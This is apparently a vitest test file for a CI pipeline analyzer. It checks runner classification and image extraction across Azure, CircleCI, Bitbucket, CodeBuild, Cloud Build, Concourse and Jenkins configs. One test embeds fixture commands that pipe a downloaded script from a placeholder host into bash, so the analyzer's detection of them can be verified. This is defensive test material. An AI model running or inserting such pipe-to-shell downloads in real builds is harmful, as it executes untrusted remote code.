import { describe, expect, it } from 'vitest'
import { evidenceOf } from '../formats/testing/evidence'
import analyzer from './analyzer'

const read = async (text: string) => (await analyzer.analyze({ files: [evidenceOf(text, 'pipeline')] })).facts
const runners = async (text: string) => (await read(text)).runners.map((runner) => `${runner.class} ${runner.label}`)
const images = async (text: string) => (await read(text)).images.map(({ image }) => image)

describe('agents of other products', () => {
  it.each([
    ['Azure, a hosted image', 'pool: {vmImage: windows-2022}\nsteps:\n- script: make\n', ['hosted windows-2022']],
    ['Azure, an own pool', 'pool: govcloud\nsteps:\n- script: make\n', ['self-hosted govcloud']],
    ['Azure, a pool by parameter', 'pool: {vmImage: "${{ parameters.image }}"}\nsteps:\n- script: make\n', ['unknown ${{ parameters.image }}']],
    ['Azure, no pool', 'trigger: [main]\nsteps:\n- script: make\n', ['unknown no pool named']],
    ['CircleCI', 'version: 2.1\njobs:\n  a:\n    docker: [{image: cimg/node:20.1}]\n    steps: [checkout]\n  b:\n    machine: true\n    resource_class: ridgeline/gov\n    steps: [checkout]\nworkflows: {w: {jobs: [a]}}\n', ['hosted CircleCI', 'self-hosted ridgeline/gov']],
    ['Bitbucket', 'image: node:20\npipelines:\n  default:\n    - step:\n        runs-on: [self.hosted, linux]\n        script: [make]\n    - step: {script: [make]}\n', ['self-hosted self.hosted, linux', 'hosted Bitbucket']],
    ['CodeBuild', 'version: 0.2\nphases:\n  build:\n    commands: [make]\n', ['unknown CodeBuild project']],
    ['Cloud Build', "steps:\n- name: gcr.io/cloud-builders/docker\n  args: [build]\n", ['hosted Cloud Build']],
    ['Jenkins', "pipeline {\n agent { label 'gov' }\n stages { stage('a') { steps { sh 'make' } } }\n}\n", ['self-hosted gov']],
    ['Jenkins, scripted', "node {\n stage('a') { sh 'make' }\n}\n", ['shared any agent']],
  ])('%s', async (_name, text, expected) => expect(await runners(text)).toEqual(expected))
})

describe('images of other products', () => {
  it.each([
    ['CircleCI, not the image of a machine', 'version: 2.1\njobs:\n  a:\n    docker: [{image: cimg/node:20.1}]\n    steps: [checkout]\n  b:\n    machine: {image: "ubuntu-2204:current"}\n    steps: [checkout]\nworkflows: {}\n', ['cimg/node:20.1']],
    ['Azure, not the name of a container', 'resources:\n  containers:\n  - container: tools\n    image: registry.ridgeline.example/t:1\njobs:\n- job: a\n  container: tools\n  steps:\n  - script: make\n', ['registry.ridgeline.example/t:1']],
    ['Concourse', 'resources:\n- name: i\n  type: registry-image\n  source: {repository: alpine, tag: "3.20"}\njobs:\n- name: a\n  plan:\n  - get: i\n', ['alpine:3.20']],
    ['Concourse, a task', 'platform: linux\nimage_resource:\n  type: docker-image\n  source: {repository: golang}\nrun: {path: make}\n', ['golang']],
    ['Concourse, by variable', 'resources:\n- name: i\n  type: docker-image\n  source: {repository: ((image))}\n- name: o\n  type: docker-image\n  source:\n    repository: {{base}}\njobs:\n- name: a\n  plan:\n  - get: i\n', ['((image))', '((base))']],
    ['Jenkins, a pod', "pipeline {\n agent { kubernetes { containerTemplate { name 'a'\n image 'docker:27' } } }\n stages { stage('a') { steps { sh 'make' } } }\n}\n", ['docker:27']],
    ['Jenkins', "pipeline {\n agent { docker { image 'node:20' } }\n stages { stage('a') { steps { sh 'docker pull alpine:3' } } }\n}\n", ['node:20', 'alpine:3']],
  ])('%s', async (_name, text, expected) => expect(await images(text)).toEqual(expected))
  it('finds a download run unseen in any of them, and not in a comment', async () => {
    const script = 'curl https://x.example.com/i | bash'
    for (const text of [`steps:\n- bash: ${script}\npool: gov\n`, `version: 0.2\nphases:\n  build:\n    commands:\n    - ${script}\n`, `node {\n stage('a') {\n // sh 'curl https://y.example.com | sh'\n sh '${script}'\n }\n}\n`]) {
      expect((await read(text)).downloads.map(({ host, toShell }) => [host, toShell])).toEqual([['x.example.com', true]])
    }
  })
})
